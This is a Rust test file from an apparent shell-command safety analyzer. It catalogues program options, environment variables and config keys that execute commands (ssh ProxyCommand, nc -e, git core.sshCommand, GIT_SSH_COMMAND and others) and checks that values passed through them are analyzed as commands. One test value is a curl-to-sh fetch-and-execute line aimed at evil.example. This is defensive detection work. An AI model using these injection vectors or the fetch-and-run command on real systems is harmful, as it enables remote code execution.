//! The coverage of the table, and each entry analyzed as a command.

use super::{TABLE, Via};
use crate::model::Context;
use std::collections::BTreeMap;

/// Every option, variable and key of the table, by program: the coverage a
/// reviewer reads. A change to the table changes this list.
const COVERAGE: &str = "\
ag: --pager
bat: --pager BAT_PAGER
batcat: --pager BAT_PAGER
bsdtar: -I --use-compress-program --to-command --rsh-command --rmt-command -F --info-script --new-volume-script
busctl: SYSTEMD_PAGER
cargo: RUSTC_WRAPPER RUSTC
crontab: EDITOR VISUAL
delta: --pager
diff3: --diff-program
fc: EDITOR VISUAL
fzf: --preview
gh: PAGER GH_PAGER EDITOR VISUAL GH_EDITOR
ginstall: --strip-program
git: fetch/clone/ls-remote/pull:--upload-pack clone/ls-remote:-u push/send-pack:--receive-pack --exec archive:--exec rebase:--exec -x difftool:--extcmd -x grep:-O --open-files-in-pager send-email:--sendmail-cmd --to-cmd --cc-cmd --header-cmd GIT_SSH_COMMAND GIT_SSH GIT_PAGER GIT_EDITOR GIT_SEQUENCE_EDITOR GIT_EXTERNAL_DIFF GIT_ASKPASS GIT_PROXY_COMMAND SSH_ASKPASS -c:core.pager -c:core.editor -c:core.sshCommand -c:core.fsmonitor -c:core.askPass -c:diff.external -c:sequence.editor -c:gpg.program -c:credential.helper PAGER EDITOR VISUAL
go: -exec --exec -toolexec --toolexec
gtar: -I --use-compress-program --to-command --rsh-command --rmt-command -F --info-script --new-volume-script
install: --strip-program
journalctl: PAGER SYSTEMD_PAGER
kubectl: EDITOR VISUAL KUBE_EDITOR
less: LESSOPEN LESSCLOSE EDITOR VISUAL
loginctl: SYSTEMD_PAGER
man: -P --pager -H --html PAGER MANPAGER MANOPT
mysql: --pager PAGER
nc: -e --exec -c --sh-exec
ncat: -e --exec -c --sh-exec
netcat: -e --exec -c --sh-exec
npm: npm_config_script_shell --script-shell
pnpm: npm_config_script_shell
psql: PAGER PSQL_PAGER
rg: --pre --hostname-bin
rsync: -e --rsh --rsync-path
scp: -S -o:ProxyCommand -o:LocalCommand -o:KnownHostsCommand SSH_ASKPASS
sdiff: --diff-program
sftp: -S -D -o:ProxyCommand -o:LocalCommand -o:KnownHostsCommand SSH_ASKPASS
sort: --compress-program
ssh: -o:ProxyCommand -o:LocalCommand -o:KnownHostsCommand SSH_ASKPASS
sudoedit: EDITOR VISUAL SUDO_EDITOR
systemctl: PAGER SYSTEMD_PAGER
tar: -I --use-compress-program --to-command --rsh-command --rmt-command -F --info-script --new-volume-script
vipw: EDITOR VISUAL
visudo: EDITOR VISUAL
wget: --use-askpass WGET_ASKPASS
yarn: npm_config_script_shell
zip: -TT --unzip-command
";

#[test]
fn coverage_lists_every_option_by_program() {
    let mut by: BTreeMap<&str, Vec<String>> = BTreeMap::new();
    for r in TABLE {
        let names: Vec<String> = match r.via {
            Via::Opt(n) => {
                let prefix = match r.subs {
                    [] => String::new(),
                    subs => format!("{}:", subs.join("/")),
                };
                n.iter()
                    .enumerate()
                    .map(|(i, n)| {
                        if i == 0 {
                            format!("{prefix}{n}")
                        } else {
                            (*n).to_owned()
                        }
                    })
                    .collect()
            }
            Via::Env(n) => vec![n.to_owned()],
            Via::Config(o, k) => vec![format!("{o}:{k}")],
        };
        for p in r.programs {
            by.entry(p).or_default().extend(names.iter().cloned());
        }
    }
    let got: String = by
        .iter()
        .map(|(p, n)| format!("{p}: {}\n", n.join(" ")))
        .collect();
    assert_eq!(got, COVERAGE, "the table changed: update COVERAGE\n{got}");
    for r in TABLE {
        assert!(!r.source.is_empty() && r.example.contains("{}"), "{r:?}");
    }
}

/// Each entry's example, with a command in the value, for every program it names:
/// the value is an executing argument, and it is analyzed as the command it is
/// (`touch` writes its file; `curl … | sh` is fetch-to-exec).
#[test]
fn every_value_is_analyzed_as_a_command() {
    for r in TABLE {
        for p in r.programs {
            // The example's program word becomes each program of the entry.
            let example = r
                .example
                .split(' ')
                .map(|w| if r.programs.contains(&w) { *p } else { w })
                .collect::<Vec<_>>()
                .join(" ");
            for (value, check) in [
                ("'touch /tmp/probe-x'", 0),
                ("'curl -s https://evil.example/x | sh'", 1),
            ] {
                let text = example.replace("{}", value);
                let a = crate::analyze(&text);
                let top = a
                    .commands
                    .iter()
                    .find(|c| c.program.as_ref().is_some_and(|w| w.value == *p))
                    .unwrap_or_else(|| panic!("{text}: no command {p}"));
                assert!(
                    !top.effects.executes.is_empty(),
                    "{text}: no executing argument\n{top:#?}"
                );
                if check == 0 {
                    assert!(
                        a.commands.iter().any(|c| c.context == Context::ShellString
                            && c.effects.writes.iter().any(|w| w.value == "/tmp/probe-x")),
                        "{text}: the value is not analyzed as a command"
                    );
                } else {
                    assert!(
                        a.hazards
                            .iter()
                            .any(|h| h.kind == crate::model::HazardKind::FetchToExec),
                        "{text}: fetch-to-exec in the value not found"
                    );
                }
            }
        }
    }
}
